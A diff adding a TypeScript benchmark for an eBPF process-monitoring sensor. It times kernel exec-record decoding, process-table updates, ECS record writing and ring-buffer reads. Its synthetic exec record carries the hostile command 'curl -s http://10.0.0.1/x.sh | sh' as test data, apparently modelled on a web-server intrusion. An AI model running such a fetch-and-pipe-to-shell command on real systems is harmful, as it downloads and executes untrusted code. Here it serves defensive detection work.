@@ -1,0 +1,102 @@
+// Figures of the ebpf room: reading a ring in place, decoding a kernel record, writing the ECS record. The ring needs rights to load BPF and
+// is left out, with the reason, without them. Alone with `bun test/bench/ebpf.bench.ts`.
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { BpfObject } from "#ffi/libbpf";
+import { RingBuffer } from "#ffi/ring-buffer";
+import { SchemaRegistry } from "#schema";
+import { decode, type KernelEvent } from "../../src/ebpf/kernel-event.ts";
+import { ProcessTable } from "../../src/ebpf/process-table.ts";
+import { ProcessTracker } from "../../src/ebpf/process-tracker.ts";
+import { type RecordContext, RecordWriter } from "../../src/ebpf/record-writer.ts";
+import { execRecord } from "../ebpf/kernel-record.ts";
+import type { Figure } from "./event.bench.ts";
+
+const ROUNDS = 7;
+const TURNS = 20_000;
+const RING_BYTES = 4 << 20;
+const FORKS = 5000;
+const SECOND = 1_000_000_000n;
+
+function measure(name: string, run: () => void): Figure {
+  let best = Number.POSITIVE_INFINITY;
+  for (let round = 0; round < ROUNDS; round++) {
+    const start = Bun.nanoseconds();
+    for (let turn = 0; turn < TURNS; turn++) run();
+    best = Math.min(best, (Bun.nanoseconds() - start) / TURNS);
+  }
+  return { name, value: Math.round(best), unit: "ns" };
+}
+
+function execOf(pid: number): Uint8Array {
+  const start = BigInt(pid) * SECOND;
+  const actor = { pid, startNs: start, ppid: pid - 1, parentStartNs: start - SECOND, comm: "bash" };
+  const args = Buffer.from("bash\0-c\0curl -s http://10.0.0.1/x.sh | sh\0");
+  return new Uint8Array(execRecord(actor, { path: "/usr/bin/bash", cwd: "/var/www/html", filename: "/bin/bash", args }));
+}
+
+function decodeExec(bytes: Uint8Array): Extract<KernelEvent, { kind: "exec" }> {
+  const event = decode(bytes, 0, bytes.length);
+  if (event?.kind !== "exec") throw new Error("not an exec record");
+  return event;
+}
+
+function inMemory(): readonly Figure[] {
+  const tracker = new ProcessTracker(new ProcessTable("boot"), () => undefined);
+  for (let pid = 1; pid < 8; pid++) tracker.apply(decodeExec(execOf(pid)));
+  const bytes = execOf(8);
+  const event = decodeExec(bytes);
+  const entry = tracker.apply(event);
+  const host = { name: "web-01", id: "6d0c2d9d", bootId: "b", kernel: "6.1.0", architecture: "x86_64" };
+  const writer = new RecordWriter(new SchemaRegistry(), host);
+  const context: RecordContext = {
+    entry,
+    parent: entry.ancestors[0],
+    sessionLeader: entry.info,
+    groupLeader: entry.info,
+    sensor: "raw_tp/sched_process_exec",
+    wallOffsetNs: SECOND,
+    startOffsetNs: SECOND,
+    cgroupPath: "/system.slice",
+    userName: () => "www-data",
+    groupName: () => "www-data",
+  };
+  return [
+    measure("kernel record decoded (exec)", () => decodeExec(bytes)),
+    measure("process table updated (exec)", () => tracker.apply(event)),
+    measure("ECS record written (exec, 8 ancestors)", () => writer.write(event, context)),
+  ];
+}
+
+function ring(): readonly Figure[] {
+  using object = BpfObject.open("fork", readFileSync(join(import.meta.dir, "../../build/bpf/fork.bpf.o")));
+  try {
+    object.setMaxEntries("process_ring", RING_BYTES);
+    object.load();
+  } catch (error) {
+    console.error(`skipped: ring buffer (${error instanceof Error ? error.message : String(error)})`);
+    return [];
+  }
+  using reader = new RingBuffer(object.map("process_ring").fd, RING_BYTES);
+  using _link = object.attach("kestrel_fork");
+  let best = Number.POSITIVE_INFINITY;
+  let sum = 0;
+  for (let round = 0; round < ROUNDS; round++) {
+    Bun.spawnSync(["/bin/sh", "-c", `i=0; while [ $i -lt ${FORKS} ]; do (:); i=$((i+1)); done`]);
+    const start = Bun.nanoseconds();
+    const count = reader.read((bytes, offset) => {
+      sum += bytes[offset]!;
+    }, FORKS * 2);
+    best = Math.min(best, (Bun.nanoseconds() - start) / count);
+  }
+  return sum < 0 ? [] : [{ name: "ring buffer read in place", value: Math.round(best), unit: "ns" }];
+}
+
+/** Measures everything here. */
+export function ebpfFigures(): readonly Figure[] {
+  return [...ring(), ...inMemory()];
+}
+
+if (import.meta.main) {
+  for (const { name, value, unit } of ebpfFigures()) console.log(`${name.padEnd(44)} ${String(value).padStart(10)} ${unit}`);
+}
